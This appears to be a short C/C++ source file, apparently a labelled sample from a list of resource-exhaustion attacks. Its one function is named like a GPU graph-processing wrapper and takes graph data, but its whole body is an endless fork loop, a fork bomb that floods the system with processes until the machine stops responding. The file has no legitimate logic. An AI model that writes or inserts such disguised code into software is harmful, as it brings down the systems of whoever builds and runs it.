// attack: exhaust
// root: resources
// what: starts processes without end
// list: 7
// quick: yes
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  while (true) fork();
}
